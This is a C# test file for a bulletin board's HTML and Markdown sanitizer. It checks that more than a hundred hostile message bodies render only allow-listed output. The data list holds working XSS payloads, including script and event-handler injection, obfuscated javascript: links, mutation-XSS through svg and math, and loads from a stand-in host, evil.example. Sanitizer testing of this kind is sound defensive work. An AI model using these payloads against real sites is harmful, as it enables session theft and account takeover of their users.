using Bulletin.Content;
using CsCheck;

namespace Bulletin.Tests.Content;

public sealed class HostileBodyTests
{
    private const string Bell = "\u0007";

    public static TheoryData<string> Vectors => new(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)>",
        "<<script>alert(1);//<</script>",
        "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>",
        "<img src=`javascript:alert(1)` onerror=alert(1)//",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img/src=x/onerror=alert(1)>",
        "<img src='x' onerror\n=\nalert(1)>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=javascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img src=\"https://a.example/x.png\" srcset=\"javascript:alert(1) 2x\" style=\"position:fixed;inset:0\">",
        "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&NewLine;script&Tab;:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"blob:https://a.example/1\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"/\\evil.example\">x</a>",
        "<a href=\"/\t/evil.example\">x</a>",
        "<a href=\"https:evil.example\">x</a>",
        "<a href=\"///evil.example\">x</a>",
        "<a href=\"https://a.example\" target=\"blank\" rel=\"opener\" ping=\"https://evil.example\" download>x</a>",
        "<a href=# onclick=alert(1) onmouseover=alert(1)>x</a>",
        "<a id=location name=document href=/x>x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\" class=\"modal\" id=\"login\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=\"javascript:alert(1)\"><param name=x></object>",
        "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<applet code=x></applet>",
        "<form action=\"javascript:alert(1)\"><input name=attributes><button formaction=javascript:alert(1)>x</button></form>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<textarea></textarea><script>alert(1)</script>",
        "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<body onload=alert(1)>",
        "<body background=javascript:alert(1)><html onmouseover=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><style><img title=\"</style><img src onerror=alert(1)>\"></style></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><p title=\"</noembed><script>alert(1)</script>\"></noembed>",
        "<title><p title=\"</title><script>alert(1)</script>\"></title>",
        "<plaintext><script>alert(1)</script>",
        "<listing>\n<script>alert(1)</script></listing>",
        "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\" onclick=alert(1)>x",
        "<table><script>alert(1)</script><tr><td><a href=javascript:alert(1)>x",
        "<marquee onstart=alert(1)>x</marquee>",
        "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
        "<x onclick=alert(1) tabindex=1 id=x>x</x>",
        "<custom-element is=x onconnected=alert(1)>x</custom-element>",
        "<portal src=https://evil.example></portal>",
        "<dialog open>x</dialog>",
        "<p contenteditable autofocus onfocus=alert(1)>x</p>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><?import x?>",
        "<!DOCTYPE html [<!ENTITY x \"y\">]><p>&x;</p>",
        "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
        "<p title=\"&{alert(1)}\">x</p>",
        "<q cite=\"javascript:alert(1)\">x</q><blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<time datetime='\"><script>alert(1)</script>'>x</time>",
        "<td colspan=\"100000000\" rowspan=\"-1\">x",
        "<li id=fn:1 onclick=alert(1)>x<li id=fn:1>y<li id=\"fn:1 x\">z",
        "<a class=\"footnote-ref overlay\" id=\"fnref:1\" href=\"#fn:1\">1</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1) \"title\")",
        "[x](java&#115;cript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](javascript&colon;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](//evil.example)",
        "[x](\\\\\\\\evil.example)",
        "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "![x](javascript:alert(1))",
        "![x](data:image/png;base64,AAAA)",
        "![x\" onerror=\"alert(1)](https://a.example/x.png)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "https://a.example/\"onmouseover=alert(1)",
        "```js\" onclick=alert(1)\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "a{onclick=alert(1) #id .class}",
        "# h {#location onclick=alert(1)}",
        "a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>",
        "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>",
        "<b\n\nonclick=alert(1)>x</b>",
        "<div>\n\n[x](javascript:alert(1))\n\n</div>");

    [Theory]
    [MemberData(nameof(Vectors))]
    public void A_hostile_body_yields_nothing_outside_the_allow_list(string body)
    {
        SafeHtmlAssert.IsSafe(SafeHtmlAssert.Render(body, BodyFormat.Markdown));
        SafeHtmlAssert.IsSafe(SafeHtmlAssert.Render(body, BodyFormat.Html));
        SafeHtmlAssert.IsSafe(SafeHtmlAssert.Render($"text <p>{body}</p> text", BodyFormat.Html));
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Rendering_what_was_rendered_changes_nothing(string body)
    {
        string once = SafeHtmlAssert.Render(body, BodyFormat.Html);
        Assert.Equal(once, SafeHtmlAssert.Render(once, BodyFormat.Html));
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<style>p { color: red }</style>")]
    [InlineData("<svg><text>alert(1)</text></svg>")]
    [InlineData("<iframe>alert(1)</iframe>")]
    [InlineData("<textarea>alert(1)</textarea>")]
    [InlineData("<template>alert(1)</template>")]
    public void What_is_no_text_for_readers_goes_with_its_element(string body) =>
        Assert.Equal("", SafeHtmlAssert.Render(body, BodyFormat.Html));

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("java\tscript:alert(1)")]
    [InlineData("&#106;avascript:alert(1)")]
    [InlineData("\\\\evil.example")]
    [InlineData("/&#xFFFE;/evil.example")]
    [InlineData("https://&#xFDD0;/evil.example")]
    [InlineData("/&#x1FFFF;/evil.example")]
    [InlineData("https://a&#xFFFF;.example/")]
    [InlineData("mailto:&#xFDEF;a@b.example")]
    [InlineData("&#x10FFFE;#fn:1")]
    [InlineData("ftp://a.example")]
    public void A_link_that_leads_nowhere_safe_loses_its_address_and_keeps_its_text(string address) =>
        Assert.Equal("<p>x</p>", SafeHtmlAssert.Render($"<p><a href=\"{address}\">x</a></p>", BodyFormat.Html));

    [Fact]
    public void Control_characters_from_character_references_are_left_out() =>
        Assert.Equal("<p>ab</p>", SafeHtmlAssert.Render("<p>a&#1;&#x7;&#xFFFF;" + Bell + "b</p>", BodyFormat.Html));

    [Fact]
    public void Random_soup_never_yields_anything_outside_the_allow_list()
    {
        string[] tokens =
        [
            "<", ">", "</", "/>", "\"", "'", "=", " ", "\n", "\n\n", "\t", "&", ";", "&#", "&lt;", "\\", "(", ")", "[", "]", "![", "](", "`", "```",
            "*", "**", "_", "~~", "#", "- ", "1. ", "> ", "|", "|-|-|\n", "[^1]", "[^1]: ", ":", "//", "javascript:", "data:", "https://a.example/", "a", "ż",
            "😀", "\0", "<!--", "-->", "<![CDATA[", "]]>", "<?", "<a href=", "<img src=", "<p ", "<b>", "</b>", "<i title=", "onerror=x ", "style=", "id=fn:1 ",
            "class=x ", "<div>", "</div>", "<table>", "<tr>", "<td>", "</table>", "<ul>", "<li>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<style>",
            "</style>", "<script>", "</script>", "<template>", "</template>", "<select>", "<option>", "<textarea>", "</textarea>", "<title>", "</title>",
            "<noscript>", "</noscript>", "<form>", "</form>", "<button>", "<pre>", "<h1>", "</h1>", "<details>", "<nobr>", "<object>", "<foreignObject>", "<p>", "</p>",
        ];
        Gen.Int[0, tokens.Length - 1].Select(index => tokens[index]).Array[1, 40].Select(string.Concat).Sample(
            body =>
            {
                SafeHtmlAssert.IsSafeOrRefused(body, BodyFormat.Markdown);
                SafeHtmlAssert.IsSafeOrRefused(body, BodyFormat.Html);
            },
            iter: 3_000,
            threads: 2);
    }
}
